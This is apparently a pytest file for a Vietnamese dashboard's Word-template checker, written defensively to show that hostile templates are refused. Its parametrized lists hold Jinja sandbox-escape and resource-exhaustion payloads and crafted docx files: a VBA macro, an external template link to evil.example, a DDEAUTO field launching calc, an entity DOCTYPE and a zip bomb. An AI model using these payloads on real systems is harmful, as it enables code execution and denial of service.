"""An office's own Word template: used as it is, or refused with the field's name; and never run."""

import asyncio
import io
import zipfile
from collections.abc import Callable

import pytest

from dashboards.reports import docx
from dashboards.reports.document import Closeness
from dashboards.reports.fields import NEEDED
from dashboards.reports.figures import Figures
from dashboards.reports.form import FormKind
from dashboards.reports.jobs import Format
from dashboards.reports.template import FILE_BYTES, check
from dashboards.reports.templates.make import made
from dashboards.reports.templates.shipped import shipped
from dashboards.reports.writing import checked, written
from tests.reports.conftest import OURS, leading
from tests.reports.reading import lines, words

PARTY = shipped(FormKind.PARTY)
BODY = "word/document.xml"


def changed(name: str, change: Callable[[bytes], bytes], template: bytes = PARTY) -> bytes:
    """The template with one of its parts otherwise, as somebody's Word might have saved it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for entry in before.infolist():
            content = before.read(entry)
            after.writestr(entry.filename, change(content) if entry.filename == name else content)
    return out.getvalue()


def said(old: str, new: str) -> bytes:
    assert old.encode() in zipfile.ZipFile(io.BytesIO(PARTY)).read(BODY)
    return changed(BODY, lambda content: content.replace(old.encode(), new.encode()))


def added(name: str, content: bytes) -> bytes:
    out = io.BytesIO(PARTY)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


@pytest.mark.parametrize("kind", list(FormKind))
def test_what_is_shipped_can_be_used_and_made_again(kind: FormKind) -> None:
    assert check(shipped(kind)) == ()
    assert made(kind) == shipped(kind)


def test_a_changed_letterhead_is_used(brief: Figures) -> None:
    template = said("ĐẢNG CỘNG SẢN VIỆT NAM", "ĐẢNG BỘ THÀNH PHỐ")
    assert asyncio.run(checked(template)) == ()
    told = asyncio.run(written(brief, OURS, [Format.DOCX], template)).files[Format.DOCX]
    (head,) = [line for line in lines(told) if line.text == "ĐẢNG BỘ THÀNH PHỐ"]
    assert (head.size, head.bold, head.cell) == (15, True, 1)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" not in words(told)


def test_an_office_may_write_its_own_sentences(brief: Figures) -> None:
    template = said(
        "{{p noi_dung }}", "{{p noi_dung }}</w:t></w:r></w:p><w:p><w:r><w:t>Tóm lại: {{ co_mat }} / {{ trieu_tap }}"
    )
    assert check(template) == ()
    assert "Tóm lại: 52.631 / 55.200" in words(docx.write(brief, OURS, template))


def test_where_a_template_has_no_small_letters_a_table_that_needs_them_stands_in_its_appendix(second: Figures) -> None:
    told = leading(second)
    older = changed("word/styles.xml", lambda content: content.replace(" nhỏ".encode(), b" X"))
    assert docx.paged(told, OURS, PARTY).closeness is Closeness.CLOSE
    assert docx.paged(told, OURS, older).closeness is Closeness.APART
    assert "(Phụ lục 1, 2)" in words(docx.write(told, OURS, older)).replace("\u00a0", " ")


@pytest.mark.parametrize("field", ["so_ky_hieu", "nguoi_ky", "ma_kiem_tra"])
def test_a_missing_field_is_named(field: str) -> None:
    (fault,) = check(said(f"{{{{ {field} }}}}", "..."))
    assert f"{{{{ {field} }}}}" in fault
    assert NEEDED[field] in fault


def test_an_unknown_field_is_named() -> None:
    assert any(
        "{{ so_van_ban }}" in fault for fault in check(said("{{ so_ky_hieu }}", "{{ so_van_ban }} {{ so_ky_hieu }}"))
    )


def test_a_field_that_word_tore_apart_is_one_field_still(brief: Figures) -> None:
    torn = said("{{ nguoi_ky }}", '{{ nguoi</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">_ky }}')
    assert check(torn) == ()
    assert "Nguyễn Văn Ổn" in words(docx.write(brief, OURS, torn))


@pytest.mark.parametrize(
    "attack",
    [
        "{{ co_quan.__class__.__mro__ }}",
        "{{ co_quan['__class__'] }}",
        "{{ co_quan() }}",
        "{{ co_quan|attr('x') }}",
        "{% for a in noi_nhan %}{% for b in noi_nhan %}x{% endfor %}{% endfor %}",
        "{% for a in 'x' * 9999999 %}x{% endfor %}",
        "{% set x = 1 %}",
        "{% include 'x' %}",
        "{% import 'os' as os %}",
        "{{ 9999999 ** 99999 }}",
        "{{ lipsum.__globals__ }}",
    ],
)
def test_more_than_names_loops_and_conditions_is_refused(attack: str) -> None:
    faults = check(said("{{ nguoi_ky }}", "{{ nguoi_ky }} " + attack))
    assert faults
    assert not any("Không đọc được" in fault for fault in faults)


def test_wrong_brackets_are_told_in_words() -> None:
    assert any("cú pháp" in fault for fault in check(said("{{ nguoi_ky }}", "{% if nguoi_ky %}{{ nguoi_ky }}")))


@pytest.mark.parametrize(
    ("template", "word"),
    [
        (added("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "chạy được"),
        (added("word/embeddings/oleObject1.bin", b"x"), "nhúng"),
        (
            changed(
                "[Content_Types].xml", lambda xml: xml.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
            ),
            "macro",
        ),
        (
            changed(
                "word/_rels/document.xml.rels",
                lambda xml: xml.replace(
                    b"</Relationships>",
                    b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
                ),
            ),
            "liên kết ngoài",
        ),
        (said("BÁO CÁO", 'BÁO CÁO</w:t><w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText><w:t>'), "DDE"),
        (changed(BODY, lambda xml: b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml.partition(b"?>")[2]), "XML"),
        (added("word/media/big.xml", b" " * 21_000_000), "giải nén"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 100, ".docx"),
        (b"PK\x03\x04" + b"x" * 50, "Không đọc được"),
        (b"", "Không đọc được"),
        (PARTY[: len(PARTY) // 2], "Không đọc được"),
    ],
)
def test_a_hostile_file_is_refused_in_words(template: bytes, word: str) -> None:
    faults = check(template)
    assert any(word in fault for fault in faults), faults


def test_what_is_too_large_or_takes_too_long_is_refused_without_being_read() -> None:
    assert "MB" in asyncio.run(checked(b"PK" + b"x" * FILE_BYTES))[0]
    assert asyncio.run(checked(added("word/media/big.xml", b" " * 60_000_000)))[0]
